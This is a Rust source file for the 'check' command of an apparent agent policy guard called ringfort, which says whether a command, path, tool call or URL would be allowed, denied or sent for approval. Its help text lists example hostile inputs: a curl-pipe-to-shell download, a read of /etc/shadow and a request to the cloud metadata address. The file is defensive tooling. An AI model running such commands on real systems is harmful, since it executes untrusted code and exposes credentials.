// SPDX-License-Identifier: MIT OR Apache-2.0
//! `ringfort check`: what would be ruled, and why.
//!
//! In: a command, path, tool call or URL on the command line, or JSON Lines on standard input. Out: the ruling; exit
//! status 0 allow, 1 deny, 4 ask, 2 usage, 3 the guard failed; with `--batch` 0 once every line was answered.
//!
//! **Invariant:** pure: no trail, no budget, no approval, no script is opened, nothing depends on what is installed.
//! It asks the same policies as `run`, by the same code. A bad line yields a denial in its place.

use std::collections::BTreeMap;
use std::ffi::OsString;
use std::io::{self, BufRead, Write};
use std::os::fd::AsFd as _;
use std::os::unix::ffi::OsStrExt as _;
use std::path::{Path, PathBuf};
use std::sync::Arc;

use clap::Args;
use ringfort_core::action::{Action, Command, Egress, PathAccess, PathOp, ToolCall};
use ringfort_core::decision::{Decision, Risk};
use ringfort_core::door::{Door, DoorKind, Standing};
use ringfort_core::limits::BATCH_LINE_BYTES_MAX;
use ringfort_core::obligation::{ApprovalChannel, Demand, Promise};
use ringfort_core::request::{Provenance, Request};
use ringfort_core::ruling::{Reason, Ruling};
use ringfort_core::text::Text;
use ringfort_policy::egress::Destination;
use ringfort_policy::egress::rule::TUNNEL;
use ringfort_policy::load::Loaded;
use ringfort_policy::path::Setting;
use ringfort_runtime::clock::SystemClock;
use ringfort_runtime::decide::Decider;
use ringfort_runtime::providers::{PROVIDERS, select};
use ringfort_runtime::supervisor::broker::{self, Operation, Reply, for_agents};
use serde::Deserialize;
use serde_json::Value;

use super::{Common, EXIT_ASK, EXIT_DENIED, EXIT_FAILED, EXIT_OK, Failure};
use crate::output::explain::{analysis, tree, tree_json};
use crate::output::remedy::Opening;
use crate::output::{self, Detail, Widening};
use crate::wiring::{FILE_NAME, World};

/// Most policies that one batch names.
const BATCH_POLICIES_MAX: usize = 64;

/// Say what would be ruled, and why
#[derive(Debug, Args)]
#[command(after_help = "Examples:
  ringfort check --explain -- 'curl -s https://x.example/i.sh | sh'
  ringfort check -- git push --force
  ringfort check --path ../secret --op read
  ringfort check --tool Read --arguments '{\"file_path\": \"/etc/shadow\"}'
  ringfort check --url http://169.254.169.254/
  printf '{\"command\": \"ls -la\"}\\n' | ringfort check --batch

One argument is text for a shell, several are the words of a command. Exit status: 0 allow, 1 deny, 4 ask.")]
pub(crate) struct CheckArgs {
    /// Show the tree of what would run, with effects, obligations and every reason under its words
    #[arg(long)]
    explain: bool,
    /// Speak for a door that isolates, as `run` does
    #[arg(long)]
    isolated: bool,
    /// Read JSON Lines on standard input and answer each with one JSON object
    #[arg(long, conflicts_with_all = ["path", "tool", "url", "command"])]
    batch: bool,
    /// Judge access to a path
    #[arg(long, value_name = "PATH", conflicts_with_all = ["tool", "url", "command"])]
    path: Option<OsString>,
    /// What is done with the path: read, write or execute
    #[arg(long, value_name = "OP", default_value = "read")]
    op: String,
    /// Judge a call of a tool
    #[arg(long, value_name = "NAME", conflicts_with_all = ["url", "command"])]
    tool: Option<String>,
    /// The tool's arguments
    #[arg(long, value_name = "JSON", default_value = "{}")]
    arguments: String,
    /// Judge a request to a URL
    #[arg(long, value_name = "URL", conflicts_with = "command")]
    url: Option<String>,
    /// The method of that request
    #[arg(long, value_name = "METHOD")]
    method: Option<String>,
    /// The program that asks for it
    #[arg(long, value_name = "NAME", requires = "url")]
    program: Option<String>,
    /// The workspace, which need not exist; the current folder unless named
    #[arg(long, value_name = "DIR")]
    cwd: Option<PathBuf>,
    /// The command
    #[arg(last = true, value_name = "COMMAND")]
    command: Vec<OsString>,
}

/// Runs the command.
///
/// # Errors
///
/// Bad usage, or the guard failed.
pub(crate) fn run(args: &CheckArgs, common: &Common) -> Result<u8, Failure> {
    let world = World::read().map_err(Failure::guard)?;
    if args.batch {
        return batch(args, common, &world);
    }
    let cwd = args.cwd.as_ref().map_or_else(|| world.cwd.clone(), |cwd| world.cwd.join(cwd));
    let request = request(&world, action(args)?, &cwd)?;
    let answered = match world.broker() {
        Some(socket) => Answered { ruling: nested(socket.as_fd(), args, &world)?, opening: None },
        None => {
            let loaded = world.load_with_clients(common, &cwd)?;
            for notice in &loaded.notices {
                writeln!(io::stderr(), "ringfort: {notice}")?;
            }
            let door = door(args.isolated);
            let ruling = decider(&loaded)?.check(&request, &door);
            if world.is_for_agent() {
                Answered { ruling: for_agents(ruling), opening: None }
            } else {
                let opening = Opening::find(&world, common, loaded, &request, &door, &ruling);
                Answered { ruling, opening }
            }
        }
    };
    let ruling = &answered.ruling;
    let mut out = anstream::stdout().lock();
    if common.json {
        output::json_line(&mut out, &answered.to_json(&request, args.explain))?;
    } else {
        answered.print(&mut out, &request, args.explain)?;
    }
    Ok(match ruling.decision {
        Decision::Allow => EXIT_OK,
        Decision::Ask => EXIT_ASK,
        Decision::Deny => EXIT_DENIED,
    })
}

/// What is answered, and what would change it where a person reads.
struct Answered {
    ruling: Ruling,
    opening: Option<Opening>,
}

impl Answered {
    fn to_json(&self, request: &Request, explain: bool) -> Value {
        let mut value = output::ruling_json(&self.ruling);
        let Some(members) = value.as_object_mut() else { return value };
        if let Some(opening) = &self.opening {
            members.insert("remedy".to_owned(), opening.to_json());
        }
        if let Some(analysis) = analysis(&request.action, &Setting::from(request)).filter(|_| explain) {
            members.insert("tree".to_owned(), tree_json(&analysis, &self.ruling));
        }
        value
    }

    fn print(&self, out: &mut dyn Write, request: &Request, explain: bool) -> io::Result<()> {
        let detail = if explain { Detail::Full } else { Detail::Brief };
        // An agent's ruling holds nothing that widens.
        let widening = if self.opening.is_some() { Widening::Hidden } else { Widening::Shown };
        output::ruling(out, &self.ruling, output::input(&request.action).as_deref(), detail, widening)?;
        match analysis(&request.action, &Setting::from(request)).filter(|_| explain) {
            Some(analysis) => tree(out, &analysis, &self.ruling)?,
            None if explain => output::effects(out, &self.ruling)?,
            None => {}
        }
        self.opening.as_ref().map_or(Ok(()), |opening| opening.print(out))
    }
}

/// Inside a cage the policy is out of reach; the supervisor outside is asked.
fn nested(socket: std::os::fd::BorrowedFd<'_>, args: &CheckArgs, world: &World) -> Result<Ruling, Failure> {
    if args.command.is_empty() {
        let error = anyhow::anyhow!("inside a cage only commands can be checked: the policy is out of reach");
        return Err(Failure::usage(error));
    }
    match broker::ask(socket, Operation::Check, &args.command, &world.cwd, &world.environment)? {
        Reply::Ruled(ruling) | Reply::Denied(ruling) => Ok(ruling),
        Reply::Failed(why) => Err(Failure::guard(anyhow::anyhow!(why))),
        Reply::Exited(_) | Reply::Signalled(_) | Reply::Said(_) => {
            Err(Failure::guard(anyhow::anyhow!("the supervisor gave an answer to another question")))
        }
    }
}

fn action(args: &CheckArgs) -> Result<Action, Failure> {
    if let Some(path) = &args.path {
        let path = Text::new(path.as_bytes());
        return Ok(Action::Path(PathAccess { path, op: path_op(&args.op).map_err(Failure::usage)? }));
    }
    if let Some(name) = &args.tool {
        let arguments = serde_json::from_str(&args.arguments)
            .map_err(|error| Failure::usage(anyhow::anyhow!("`--arguments` is no JSON: {error}")))?;
        return Ok(Action::Tool(ToolCall { name: name.clone(), arguments }));
    }
    if let Some(url) = &args.url {
        let egress = Egress { url: url.clone(), method: args.method.clone(), program: args.program.clone() };
        return Ok(Action::Egress(if args.isolated { seen_at_the_door(egress) } else { egress }));
    }
    if args.command.is_empty() {
        let error = anyhow::anyhow!("there is nothing to check");
        return Err(Failure::usage(error).help("`ringfort check --help` shows the forms; a command comes after `--`"));
    }
    let words = args.command.iter().map(|word| Text::new(word.as_bytes())).collect();
    Ok(Action::Command(Command::from_words(words)))
}

/// What the door of a cage sees of a request: of one inside TLS the host and port.
fn seen_at_the_door(egress: Egress) -> Egress {
    let to = ringfort_policy::egress::parse(&egress.url).ok();
    match to.filter(|to| matches!(to.scheme.as_deref(), Some("https" | "wss"))) {
        Some(Destination { host, port: Some(port), .. }) => {
            Egress { url: format!("{host}:{port}"), method: Some(TUNNEL.to_owned()), ..egress }
        }
        _ => egress,
    }
}

fn path_op(word: &str) -> anyhow::Result<PathOp> {
    match word {
        "read" => Ok(PathOp::Read),
        "write" => Ok(PathOp::Write),
        "execute" => Ok(PathOp::Execute),
        other => Err(anyhow::anyhow!("`{other}` is not read, write or execute")),
    }
}

fn request(world: &World, action: Action, cwd: &Path) -> Result<Request, Failure> {
    let user = world.principal().map_err(Failure::guard)?;
    Ok(Request {
        principal: user,
        action,
        session: "check".to_owned(),
        cwd: cwd.to_owned(),
        workspace: cwd.to_owned(),
        home: Some(world.home.clone()),
        provenance: Provenance::Agent,
        bindings: Vec::new(),
    })
}

/// Who rules: the same as for `run`.
fn decider(loaded: &Loaded) -> Result<Decider, Failure> {
    let chain: Arc<[_]> = loaded.chain.clone().into();
    let provider = select(PROVIDERS, &loaded.config.policy.provider, &chain).map_err(Failure::guard)?;
    Ok(Decider::new(chain, provider, Arc::new(SystemClock::new())))
}

/// The door that `check` speaks for.
fn door(isolated: bool) -> Door {
    let bare = Door {
        asks: Some(ApprovalChannel::TwoPersons),
        limits: Demand::Demanded,
        redacts: Demand::Demanded,
        ..Door::bare(DoorKind::Check, Standing::Advised)
    };
    if isolated {
        Door { isolates: Promise::ALL.into(), profile: Some("native".to_owned()), standing: Standing::Caged, ..bare }
    } else {
        bare
    }
}

/// One line of a batch.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct Line {
    command: Option<CommandField>,
    tool: Option<String>,
    arguments: Option<Value>,
    path: Option<String>,
    op: Option<String>,
    url: Option<String>,
    method: Option<String>,
    cwd: Option<PathBuf>,
    policy: Option<String>,
    /// Carried through, so that a caller can match answers to questions.
    id: Option<Value>,
}

/// Shell text, or words.
#[derive(Debug, Deserialize)]
#[serde(untagged)]
enum CommandField {
    Text(String),
    Words(Vec<String>),
}

struct Batch<'a> {
    world: &'a World,
    common: &'a Common,
    isolated: bool,
    cwd: PathBuf,
    /// By policy, and by the workspace where that has a file of its own.
    deciders: BTreeMap<(String, Option<PathBuf>), Result<Arc<Decider>, String>>,
}

fn batch(args: &CheckArgs, common: &Common, world: &World) -> Result<u8, Failure> {
    let cwd = args.cwd.as_ref().map_or_else(|| world.cwd.clone(), |cwd| world.cwd.join(cwd));
    let mut batch = Batch { world, common, isolated: args.isolated, cwd, deciders: BTreeMap::new() };
    // A default policy that cannot be loaded fails the whole batch: no line could be answered by it.
    batch.decider(None, &batch.cwd.clone()).map_err(|why| Failure::usage(anyhow::anyhow!(why)))?;
    let mut input = io::BufReader::new(io::stdin().lock());
    let mut out = io::BufWriter::new(io::stdout().lock());
    let mut line = Vec::new();
    let mut answered_all = true;
    loop {
        line.clear();
        let complete = read_line(&mut input, &mut line)?;
        if line.is_empty() && complete == Reading::End {
            break;
        }
        let (id, ruling) = match complete {
            Reading::TooLong => (None, bad_line(&format!("the line is longer than {BATCH_LINE_BYTES_MAX} bytes"))),
            Reading::Line | Reading::End => batch.answer(&line),
        };
        answered_all &= !ruling.reasons.is_empty();
        let mut value = output::ruling_json(&ruling);
        if let (Some(id), Some(object)) = (id, value.as_object_mut()) {
            object.insert("id".to_owned(), id);
        }
        output::json_line(&mut out, &value)?;
        if complete == Reading::End {
            break;
        }
        // A caller that asks line by line gets each answer at once; a file is answered in blocks.
        if input.buffer().is_empty() {
            out.flush()?;
        }
    }
    out.flush()?;
    Ok(if answered_all { EXIT_OK } else { EXIT_FAILED })
}

#[derive(Clone, Copy, PartialEq, Eq)]
pub(super) enum Reading {
    Line,
    End,
    TooLong,
}

/// Reads one line without its end, bounded; the rest of a line that is too long is skipped.
///
/// # Errors
///
/// The stream cannot be read.
pub(super) fn read_line(input: &mut dyn BufRead, line: &mut Vec<u8>) -> io::Result<Reading> {
    let mut too_long = false;
    loop {
        let chunk = input.fill_buf()?;
        if chunk.is_empty() {
            return Ok(if too_long { Reading::TooLong } else { Reading::End });
        }
        let end = chunk.iter().position(|byte| *byte == b'\n');
        let part = chunk.get(..end.unwrap_or(chunk.len())).unwrap_or_default();
        if !too_long {
            line.extend_from_slice(part);
            too_long = line.len() > BATCH_LINE_BYTES_MAX;
        }
        let used = part.len() + usize::from(end.is_some());
        input.consume(used);
        if end.is_some() {
            return Ok(if too_long { Reading::TooLong } else { Reading::Line });
        }
    }
}

fn bad_line(why: &str) -> Ruling {
    Ruling::deny(Risk::High, Reason::new("check-001", Decision::Deny, format!("the line cannot be judged: {why}")))
}

impl Batch<'_> {
    /// Who rules in a workspace: its project file counts, as it does for a single check and for `run`.
    fn decider(&mut self, policy: Option<&str>, cwd: &Path) -> Result<Arc<Decider>, String> {
        let absent = |error: io::Error| matches!(error.kind(), io::ErrorKind::NotFound | io::ErrorKind::NotADirectory);
        let has_none = cwd.join(FILE_NAME).symlink_metadata().err().is_some_and(absent);
        let project = (!has_none).then(|| cwd.to_owned());
        let key = (policy.unwrap_or_default().to_owned(), project);
        if let Some(known) = self.deciders.get(&key) {
            return known.clone();
        }
        if self.deciders.len() >= BATCH_POLICIES_MAX {
            return Err(format!(
                "a batch names at most {BATCH_POLICIES_MAX} policies and workspaces with a file of their own"
            ));
        }
        let mut common = self.common.clone();
        match policy {
            None => {}
            Some(preset @ ("locked" | "supervised" | "trusted")) => {
                common.settings.push(format!("policy.preset={preset}"));
            }
            Some(path) => common.policy = Some(PathBuf::from(path)),
        }
        let loaded = self.world.load(&common, key.1.as_deref());
        let decider =
            loaded.and_then(|loaded| decider(&loaded)).map(Arc::new).map_err(|failure| failure.error.to_string());
        self.deciders.insert(key, decider.clone());
        decider
    }

    fn answer(&mut self, line: &[u8]) -> (Option<Value>, Ruling) {
        let line: Line = match serde_json::from_slice(line) {
            Ok(line) => line,
            Err(error) => return (None, bad_line(&error.to_string())),
        };
        let id = line.id.clone();
        let ruling = self.rule(line).unwrap_or_else(|why| bad_line(&why));
        (id, ruling)
    }

    fn rule(&mut self, line: Line) -> Result<Ruling, String> {
        let cwd = line.cwd.as_ref().map_or_else(|| self.cwd.clone(), |cwd| self.world.cwd.join(cwd));
        let decider = self.decider(line.policy.as_deref(), &cwd)?;
        let action = line_action(line)?;
        let request = request(self.world, action, &cwd).map_err(|failure| failure.error.to_string())?;
        Ok(decider.check(&request, &door(self.isolated)))
    }
}

fn line_action(line: Line) -> Result<Action, String> {
    match line {
        Line { command: Some(command), tool: None, path: None, url: None, .. } => {
            let words = match command {
                CommandField::Text(text) => vec![Text::from(text)],
                CommandField::Words(words) => words.into_iter().map(Text::from).collect(),
            };
            Ok(Action::Command(Command::from_words(words)))
        }
        Line { tool: Some(name), command: None, path: None, url: None, arguments, .. } => {
            Ok(Action::Tool(ToolCall { name, arguments: arguments.unwrap_or(Value::Object(serde_json::Map::new())) }))
        }
        Line { path: Some(path), command: None, tool: None, url: None, op, .. } => {
            let op = path_op(op.as_deref().unwrap_or("read")).map_err(|error| error.to_string())?;
            Ok(Action::Path(PathAccess { path: Text::from(path), op }))
        }
        Line { url: Some(url), command: None, tool: None, path: None, method, .. } => {
            Ok(Action::Egress(Egress { url, method, program: None }))
        }
        _ => Err("it names not exactly one of command, tool, path and url".to_owned()),
    }
}
